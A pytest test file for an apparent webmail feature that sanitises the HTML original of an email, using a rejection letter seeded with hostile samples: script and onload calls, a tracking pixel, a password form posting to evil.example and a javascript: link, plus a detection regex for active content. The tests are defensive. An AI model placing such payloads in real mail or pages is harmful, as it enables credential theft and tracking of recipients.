"""The original of a mail is shown so that it can do nothing: not load, not run, not lead astray."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from onward.intake.models import Reading
from onward.intake.original import document, sanitised

MAIL = """\
From: Mara Lindqvist <mara.lindqvist@fernhill.example>
To: ada@example.org
Subject: Your application for Night Desk Lead at Fernhill Hotel
Date: Fri, 20 Nov 2026 10:15:00 +0000
Message-ID: <no-2@fernhill.example>
Content-Type: text/html; charset=utf-8

<html><head><style>p { color: crimson }</style></head><body onload="steal()">
<p style="position:fixed">Dear Ada,</p>
<p>after careful thought we have decided to move forward with other candidates.</p>
<img src="https://track.example/pixel.gif"><script>steal()</script>
<table><tr><td colspan="2">Fernhill Hotel</td></tr></table>
<a href="https://fernhill.example/careers">our bank</a>
<form action="https://evil.example"><input name="password"></form>
<svg><a href="javascript:steal()">x</a></svg>
</body></html>
"""
LOADS_OR_RUNS = re.compile(
    r"<(?:script|style|img|iframe|object|embed|form|input|svg|math|video|audio|base|meta|link)\b"
    r"|\s(?:on\w+|src|href|style|action|background|poster|srcset)\s*="
    r"|javascript:",
    re.I,
)


@pytest.fixture
def html_mail(waiting):
    return waiting(MAIL)


def test_the_words_and_tables_stay_and_all_that_could_act_goes(hers, html_mail):
    answer = hers.get(f"/tray/{html_mail.pk}/original/")
    body = answer.content.decode().partition("<body>")[2]

    assert "we have decided to move forward" in body
    assert '<td colspan="2">Fernhill Hotel</td>' in body
    assert not LOADS_OR_RUNS.search(body)
    for gone in ("steal", "crimson", "pixel", "evil", "password"):
        assert gone not in body


def test_the_frame_may_load_nothing_but_our_stylesheet(hers, html_mail):
    answer = hers.get(f"/tray/{html_mail.pk}/original/")
    policy = answer["Content-Security-Policy"]

    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    assert "img-src" not in policy
    assert "script-src" not in policy
    assert answer["X-Frame-Options"] == "SAMEORIGIN"


def test_a_link_stands_apart_with_the_host_it_leads_to(hers, html_mail):
    page = hers.get(f"/tray/{html_mail.pk}/").content.decode()

    assert "<strong>fernhill.example</strong>" in page
    assert "noreferrer" in page


def test_a_host_in_letters_that_look_like_others_shows_its_true_ones():
    found = sanitised('<a href="https://fernh\u0456ll.example/x">Fernhill</a>')

    assert found.links[0].host.startswith("xn--")


def test_a_mail_without_a_layout_has_no_original(hers, waiting):
    reading = waiting()

    assert "As it was laid out" not in hers.get(f"/tray/{reading.pk}/").content.decode()
    assert hers.get(f"/tray/{reading.pk}/original/").status_code == 404


def test_nobody_sees_the_original_of_somebody_elses_mail(theirs, html_mail):
    assert theirs.get(f"/tray/{html_mail.pk}/original/").status_code == 404


def test_the_layout_of_a_mail_is_sealed_and_goes_with_its_words(hers, html_mail, ada):
    assert b"Fernhill" not in bytes(html_mail.message.__dict__["content"])

    hers.post(f"/tray/{html_mail.pk}/dismiss/")

    assert not Reading.objects.owned_by(ada).exists()
    html_mail.message.refresh_from_db()
    assert html_mail.message.forgotten


@given(st.text(alphabet="<>/=\"' abimgscriptonhrefstyle:;&#x0\n", max_size=400))
def test_whatever_the_html_nothing_in_it_can_act(html):
    body = document(html, title="").partition("<body>")[2]
    tags = re.findall(r"<[^>]*>", body)

    assert not [tag for tag in tags if LOADS_OR_RUNS.search(tag)]
